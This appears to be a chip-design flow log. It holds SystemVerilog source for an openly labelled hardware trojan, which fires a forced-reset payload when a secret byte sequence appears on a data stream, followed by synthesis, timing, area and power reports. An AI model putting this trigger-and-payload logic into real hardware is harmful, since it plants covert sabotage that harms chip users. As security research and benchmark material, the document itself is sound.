$ cat config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = seq_trigger_trojan
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_pulse_gen.sv /design/src/rtl/seq_trigger_trojan.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 10
export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 0
export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 1
export CORE_MARGIN = 4
export CORE_UTILIZATION = 37
export DETAILED_ROUTE_END_ITERATION = 6
export GPL_ROUTABILITY_DRIVEN = 1
export PLACE_DENSITY_LB_ADDON = 0.25
export SETUP_SLACK_MARGIN = 0.2
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
$ cat constraint.sdc
create_clock -name clk -period 1.9 [get_ports clk]
set_input_delay 0.19 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.19 -clock clk [all_outputs]
set_load 0.03 [all_outputs]
$ cat src/rtl/trojan_pkg.sv
// Shared constants and types for the sequence-triggered trojan block.
// Imported by seq_trigger_trojan and trojan_pulse_gen.
package trojan_pkg;

    localparam int TROJAN_MAX_SEQ_LEN   = 8;
    localparam int TROJAN_MAX_PULSE_LEN = 255;

    typedef enum logic {
        PAYLOAD_PULSE,
        PAYLOAD_STICKY
    } payload_mode_e;

    function automatic payload_mode_e payload_mode(input int sticky);
        return (sticky != 0) ? PAYLOAD_STICKY : PAYLOAD_PULSE;
    endfunction

endpackage

$ cat src/rtl/trojan_pulse_gen.sv
// Payload timing: a reloadable down-counter for fixed-length pulses, or a
// latch that holds the payload until reset.
module trojan_pulse_gen
    import trojan_pkg::*;
#(
    parameter int            PULSE_LEN = 4,
    parameter payload_mode_e MODE      = PAYLOAD_PULSE
) (
    input  logic clk,
    input  logic rst,
    input  logic fire,
    output logic force_reset
);

    generate
        if (MODE == PAYLOAD_STICKY) begin : g_sticky
            logic sticky_q;

            // NOTE: sequential state uses non-blocking assignments so every
            // register samples the pre-edge values of the others.
            always_ff @(posedge clk or posedge rst) begin
                if (rst) begin
                    sticky_q    <= 1'b0;
                    force_reset <= 1'b0;
                end else begin
                    if (fire) sticky_q <= 1'b1;
                    force_reset <= sticky_q | fire;
                end
            end
        end else begin : g_pulse
            localparam logic [7:0] LOAD = 8'(PULSE_LEN);
            logic [7:0] cnt_q;

            // Output stays high while more than one cycle of the pulse remains,
            // so the pulse covers exactly PULSE_LEN edges starting at the fire edge.
            always_ff @(posedge clk or posedge rst) begin
                if (rst) begin
                    cnt_q       <= '0;
                    force_reset <= 1'b0;
                end else begin
                    if (fire)
                        cnt_q <= LOAD;
                    else if (cnt_q != '0)
                        cnt_q <= cnt_q - 8'd1;
                    force_reset <= fire | (cnt_q > 8'd1);
                end
            end
        end
    endgenerate

endmodule

$ cat src/rtl/seq_trigger_trojan.sv
// Watches a valid-qualified data stream for PATTERN and fires a reset payload.
// Define TROJAN_ARM_COUNT_EN to require ARM_COUNT triggers before the payload fires.
module seq_trigger_trojan
    import trojan_pkg::*;
#(
    parameter int                          DATA_W    = 8,
    parameter int                          SEQ_LEN   = 3,
    parameter logic [SEQ_LEN*DATA_W-1:0]   PATTERN   = {8'hF0, 8'h55, 8'hAA},
    parameter int                          PULSE_LEN = 4,
    parameter int                          STICKY    = 0
`ifdef TROJAN_ARM_COUNT_EN
    ,
    parameter int                          ARM_COUNT = 2
`endif
) (
    input  logic              clk,
    input  logic              rst,
    input  logic              data_valid,
    input  logic [DATA_W-1:0] data_in,
    output logic              force_reset,
    output logic              armed
);

    generate
        if (SEQ_LEN < 2 || SEQ_LEN > TROJAN_MAX_SEQ_LEN) begin : g_bad_seq_len
            $error("seq_trigger_trojan: SEQ_LEN %0d outside 2..%0d", SEQ_LEN, TROJAN_MAX_SEQ_LEN);
        end
        if (PULSE_LEN < 1 || PULSE_LEN > TROJAN_MAX_PULSE_LEN) begin : g_bad_pulse_len
            $error("seq_trigger_trojan: PULSE_LEN %0d outside 1..%0d", PULSE_LEN, TROJAN_MAX_PULSE_LEN);
        end
`ifdef TROJAN_ARM_COUNT_EN
        if (ARM_COUNT < 1 || ARM_COUNT > 15) begin : g_bad_arm_count
            $error("seq_trigger_trojan: ARM_COUNT %0d outside 1..15", ARM_COUNT);
        end
`endif
    endgenerate

    localparam int                IDX_W    = $clog2(SEQ_LEN);
    localparam logic [IDX_W-1:0]  LAST_IDX = IDX_W'(SEQ_LEN - 1);

    logic [IDX_W-1:0]  idx_q, idx_d;
    logic [DATA_W-1:0] first_word, last_word, cur_word;
    logic              trigger, fire;

    assign first_word = PATTERN[DATA_W-1:0];
    assign last_word  = PATTERN[SEQ_LEN*DATA_W-1 -: DATA_W];
    assign cur_word   = PATTERN[int'(idx_q)*DATA_W +: DATA_W];

    // NOTE: every signal written here gets a default first, so no path
    // through the block can leave it unassigned and infer a latch.
    always_comb begin
        idx_d   = idx_q;
        trigger = 1'b0;
        if (data_valid) begin
            if (data_in == cur_word) begin
                if (idx_q == LAST_IDX) begin
                    trigger = 1'b1;
                    idx_d   = (last_word == first_word) ? IDX_W'(1) : '0;
                end else begin
                    idx_d = idx_q + IDX_W'(1);
                end
            end else begin
                // A broken sequence may itself be the start of a new one.
                idx_d = (data_in == first_word) ? IDX_W'(1) : '0;
            end
        end
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) idx_q <= '0;
        else     idx_q <= idx_d;
    end

    assign armed = (idx_q != '0);

`ifdef TROJAN_ARM_COUNT_EN
    localparam logic [3:0] ARM_LAST = 4'(ARM_COUNT - 1);
    logic [3:0] arm_cnt_q;

    // Counts triggers up to ARM_COUNT-1 and then saturates; from there on
    // every trigger is passed to the payload.
    always_ff @(posedge clk or posedge rst) begin
        if (rst)
            arm_cnt_q <= '0;
        else if (trigger && arm_cnt_q != ARM_LAST)
            arm_cnt_q <= arm_cnt_q + 4'd1;
    end

    assign fire = trigger && (arm_cnt_q == ARM_LAST);
`else
    assign fire = trigger;
`endif

    trojan_pulse_gen #(
        .PULSE_LEN (PULSE_LEN),
        .MODE      (payload_mode(STICKY))
    ) u_pulse_gen (
        .clk         (clk),
        .rst         (rst),
        .fire        (fire),
        .force_reset (force_reset)
    );

endmodule
**Word-level counts from Yosys, hierarchy flattened**

Index checks and enable logic that the tools add are counted.

- Add/subtract/negate cells: 2
- Magnitude comparators: 1
- Equal/unequal tests: 3
- Shift-type cells: 1
- Muxes and demuxes: 8
- Bitwise logic cells: 1
- Reduce and logical (&&, ||, !) cells: 3

Operators with widths:

| cell | count |
|---|---|
| $shiftx A24 B6 Y8 const A | 1 |
| $mux W8 | 2 |
| $eq A8 B8 Y1 | 1 |
| $eq A8 B8 Y1 const B | 1 |
| $gt A8 B1 Y1 const B | 1 |
| $reduce_bool A8 Y1 | 1 |
| $sub A8 B1 Y8 const B | 1 |
| $mux W1 | 4 |
| $mux W2 | 2 |
| $reduce_bool A2 Y1 | 2 |
| $add A2 B1 Y2 const B | 1 |
| $eq A2 B2 Y1 const B | 1 |
| $or A1 B1 Y1 | 1 |

- Flip-flop bits (word level): 11
- Input port bits: 11
- Output and inout bits: 2
- Logic and storage cells: 22

**Longest topological paths before layout**

- Depth after elaboration: 5
- Gate-level depth with buffers: 10
- Mapped depth without buffers: 10

**By module**

From an unflattened synthesis, not the netlist that was laid out.

- Cell total of the unflattened synthesis: 123
- Area total of the unflattened synthesis: 869.6 um^2

By module, submodules not included:

| module | times used | cells an instance | area an instance (um^2) | sequential area each (um^2) |
|---|---|---|---|---|
| trojan_pulse_gen | 1 | 70 | 550.5 | 225.2 |
| seq_trigger_trojan | 1 | 53 | 319.1 | 50.0 |

**Worst setup path after synthesis**

OpenSTA, ideal clock, no wires.

- Path kind: reg-to-reg
- Start: reg idx_q[1]
- End: reg u_pulse_gen.g_pulse.cnt_q[6]
- Library setup time: 0.117 ns
- Arrival time: 1.320 ns
- Data required time: 1.783 ns
- Path slack: 0.463 ns
- Stages on the path, launching flop included: 10
- Buffers on the path: 0
- Period minus slack after synthesis: 1.437 ns
- Path through: dfrtp_1 > inv_1 > ha_1 > inv_2 > o21ai_2 > nand2_1 > nor2_2 > nand3b_2 > nand2_1 > nor2_1

- Cells in the longest elaborated chain, start to end: 5
- Elaborated cells on any way between the ends: 8
- Those cells by class: 2 x eq/ne; 1 x shift; 4 x mux; 1 x reduce/logical

RTL lines:

| what | RTL line | text |
|---|---|---|
| start: declaration | seq_trigger_trojan.sv:41 | `logic [IDX_W-1:0] idx_q, idx_d;` |
| start signal: assignment | seq_trigger_trojan.sv:71 | `else idx_q <= idx_d;` |
| $shiftx A24 B6 Y8 / $eq A2 B2 Y1 (equally long branches) | seq_trigger_trojan.sv:47, seq_trigger_trojan.sv:56 |  |
| $eq A8 B8 Y1 / $mux W1 (equally long branches) | seq_trigger_trojan.sv:55, seq_trigger_trojan.sv:56 |  |
| $mux W1 (*) | seq_trigger_trojan.sv:55 | `if (data_in == cur_word) begin` |
| $mux W1 (*) | seq_trigger_trojan.sv:54 | `if (data_valid) begin` |
| $mux W8 / $reduce_bool A2 Y1 (equally long branches) | -- |  |
| end signal: assignment | trojan_pulse_gen.sv:44 | `cnt_q <= cnt_q - 8'd1;` |
| end: declaration | trojan_pulse_gen.sv:32 | `logic [7:0] cnt_q;` |

Every way passes the cells marked *; elsewhere a longest branch is shown, timed or not.
A chain may end at the register's enable or synchronous reset.

**Final worst setup path**

- Start: reg idx_q[0]
- End: out armed

- Cells in the longest elaborated chain, start to end: 1

RTL lines:

| what | RTL line | text |
|---|---|---|
| $reduce_bool A2 Y1 | seq_trigger_trojan.sv:74 | `assign armed = (idx_q != '0);` |
| end: declaration | seq_trigger_trojan.sv:21 | `output logic armed` |

Every way passes these cells.

==> summary.md <==
| Metric | Value |
|---|---|
| Status | complete, no violations |
| Top delay family on crit path | buffers and inverters |
| TritonCTS clock tree | done |
| Post-synthesis mux area share | 0 |
| Final setup viols | 0 |
| Fin Setup TNS | 0 ps |
| Flops & latches, synth | 11 |
| GRT overflow | 0 |
| Compound-gate portion of the synthesized area | 0.0498 |
| Placer Congestion | 0.776 |
| First-pass GRT wire length | 2870 um |
| FMAX | 0.622 GHz |
| Vias per inst | 4.62 |
| CTS Sinks | 11 |
| Post-synthesis simple-gate area fraction | 0.390 |
| Worst-path fanout max | 4 |
| Worst-path clk slew | 70 ps |
| Post-CTS setup buffer count | 0 |
| Most frequent cell after synthesis | nand2_1 |
| R2R cell count | 8 |
| Final worst clock skew | 6.69 ps |
| Die height | 54.6 um |
| CP Launch Point | idx_q[0]$_DFFE_PP0P_ |
| Total CTS buffers | 3 |
| Hold Fails Final Rpt | 0 |
| RSZ-0062 raised after global routing | no |
| H-tree depth | 1 |
| Initial Utilization | 0.398 |
| Area Growth Syn to Fin | 23.0% |
| Largest cells by area after synthesis | dfrtp_1 (34%), nand2_1 (17%), ha_1 (11%) |
| Pin slew with the least headroom to its limit | 439 ps |
| Nets | 148 |
| Largest family of logic cells by synthesized area | simple AND/OR/NAND/NOR gates |
| Number of synthesized flops with an enable pin | 0 |
| Ys async rst share | 1.00 |
| Worst skew pair latency | 270 ps |
| Crit path launch type | flop |
| Port Buffers | 12 |
| Initial DRC Count | 25 |
| Antenna cells | 0 |
| Flop2flop setup slack | 350 ps |
| Largest net degree at the start of global routing | 12 |
| Distinct cells, synth | 21 |
| Vias post-DR | 721 |
| PwrDens | 876 nW/um^2 |
| Post-DRT Antenna Nets | 0 |
| Layout Utilization | 0.489 |
| Slowest cell on the critical path | dfrtp_1 |
| Site Rows | 16 |
| XOR/XNOR share of the synthesized area | 0.0218 |
| DIE AREA | 2980 sq um |
| FF-to-FF End | u_pulse_gen.g_pulse.cnt_q[3]$_DFFE_PP0P_ |
| DIE WIDTH | 54.6 um |
| Syn Inst Count | 113 |
| HP Class | primary input to asynchronous set/reset pin |
| Initial antenna violation count | 0 |
| VDD IR max | 0.669 mV |
| I/O pin count | 13 |
| Synth Area in Adders | 0.109 |
| Setup crit end kind | output pin |
| Final min period | 1610 ps |
| Final period utilization | 0.846 |
| GRT Util Overall | 0.136 |
| Vias in the first global route | 715 |
| Wire length per cell | 10.2 um |
| Sequential share of the synthesized area | 0.342 |
| Post-synth top flop | dfrtp_1 |
| P_leak | 0.505 nW |
| Setup CP Type | flop to output pin |
| Hpwl dp | 1260 um |
| Synth cell count leaders | nand2_1 (36), inv_1 (14), nor2_1 (14) |
| Layout cells sized above 1 | 0.132 |
| Ys Warns | 0 |
| DR DRC count | 0 |
| Rel. slew slack | 0.707 |
| CP Depth | 4 |
| Pre-antenna DRT Iters | 4 |
| Maxcap violations | 0 |
| Syn_nets | 131 |
| Worst Path Buf+Inv | 3 |
| Final wirelength | 1600 um |
| CTS Hold Bufs | 0 |
| Clock Tree Buf Depth | 2 |
| Share of the synthesized area in the top cell type | 0.342 |
| Core footprint | 2020 sq um |
| Reg2reg start | idx_q[0]$_DFFE_PP0P_ |
| Syn avg cell area | 7.12 sq um |
| CP arrival | 1420 ps |
| Slew Viols, Final | 0 |
| Synth area leader | dfrtp_1 |
| Root buffer cell | clkbuf_4 |
| CP cell instances | inv_1 -> ha_1 -> inv_2 -> clkdlybuf4s15_1 |
| WP data required | 1710 ps |
| Critical Path Max Stage Delay | 380 ps |
| Mapped Area | 805 sq um |
==> layer usage <==
layer	up-vias	wire (um)	track usage
met2	15	717	0.224
met1	325	744	0.164
li1	377	-	-
met4	0	32	0.0622
met5	-	0	0
met3	4	103	0.0327
==> placed cells by master, fill, tap and decap left out, drive strengths merged <==
cell	synthesis	layout
xor2	1	1
o22ai	1	1
nand3	8	8
clkdlybuf4s15	0	1
inv	16	16
clkbuf	0	4
or2	2	2
xnor2	1	1
clkdlybuf4s50	0	11
dfrtp	11	11
nor2	17	17
clkinv	2	2
nand3b	1	1
nand4	2	2
nor3b	1	1
nand2	37	37
ha	7	7
o21ai	6	6
==> worst max path at each step <==
stage | to
after floorplan | u_pulse_gen.g_pulse.cnt_q[6]$_DFFE_PP0P_
final | armed
after global routing | u_pulse_gen.g_pulse.cnt_q[3]$_DFFE_PP0P_
after detailed placement | armed
after global placement | armed
after CTS | armed
==> through the flow <==
stage	setup slack, ps	hold WS [ps]	power, mW	area, sq um	cells
4_1_cts	251	234	0.873	983	156
2_1_floorplan	463	42.4	0.620	805	113
3_5_place_dp	278	530	0.707	958	152
6_report	292	210	0.867	990	156
5_1_grt	205	259	0.961	990	156
3_3_place_gp	310	519	0.698	958	152
==> power breakdown <==
part           total [mW]  switching (mW)  leakage, nW  internal (mW)
sequential          0.385          0.0703        0.125          0.314
combinational       0.320           0.187        0.365          0.133
clock               0.162          0.0809       0.0150         0.0814
total               0.867           0.338        0.505          0.529
==> sequential cells by signal, summed over array words and instances (netlist names) <==
| register | flops |
|---|---|
| idx_q | 2 |
| u_pulse_gen.force_reset | 1 |
| u_pulse_gen.g_pulse.cnt_q | 8 |
==> worst reg2reg max path, stage by stage (launching register included) <==
cell,delay [ps]
dfrtp_1,380
inv_1,90
ha_1,240
o21ai_0,150
nand2_1,80
nor2_2,160
nand3b_2,190
nand3_1,120
inv_1,40
==> cell type report <==
| type | instances | area [sq um] |
|---|---|---|
| inverter | 18 | 70.1 |
| timing repair buffer | 12 | 120 |
| multi-input combinational | 84 | 464 |
| fill | 204 | 1030 |
| sequential | 11 | 275 |
| clock buffer | 4 | 26.3 |
| tap | 27 | 33.8 |
==> logic make-up after synthesis <==
| kind of cell | after synthesis |
|---|---|
| AND/OR/NAND/NOR | 68 |
| flip-flops | 11 |
| adder cells (fa/ha/maj) | 7 |
| XOR/XNOR | 2 |
| AO/OA/AOI/OAI | 7 |
| buffers and inverters | 18 |
==> what timing repair did <==
action / in CTS / in global routing
gates resized for setup: 1 / 2
pin swaps: 0 / 0
endpoints found under the setup margin: 1 / 2
Power figures use the tool's default switching activity.
